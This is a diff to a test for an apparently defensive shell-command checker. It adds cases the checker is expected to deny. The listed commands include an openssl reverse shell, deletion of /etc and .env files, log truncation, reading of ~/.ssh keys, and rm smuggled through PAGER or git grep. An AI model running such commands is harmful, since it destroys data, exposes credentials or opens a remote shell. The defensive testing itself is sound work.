@@ -227,7 +227,8 @@ TEST(Walk, KnowsProgramsThatStartOthersOnTheSide) {
                   "git grep -O'rm -rf /etc' x", "PAGER='rm -rf /etc' man ls", "$(which rm) -rf /etc",
                   "/bin/sh -i < p 2>&1 | openssl s_client -connect h:1 > p",
                   "docker ps -q | xargs docker kill", "printf '%s\\0' * | xargs -0 rm -rf",
-                  "find /var/log -type f -exec truncate -s 0 {} +"});
+                  "find /var/log -type f -exec truncate -s 0 {} +", "find . -name .env | xargs rm",
+                  "find ~/.ssh -type f | xargs cat", "(echo keep; cat list) | xargs rm"});
   expect_allowed({"screen -ls", "tmux ls", "tmux new-session -d 'npm start'", "gdb -batch -ex bt ./a",
                   "vim -es -c '%s/a/b/' -c wq a.c", "PAGER=less man ls", "EDITOR=vim git commit",
                   "docker kill web", "printf '%s\\0' a b | xargs -0 rm -f",
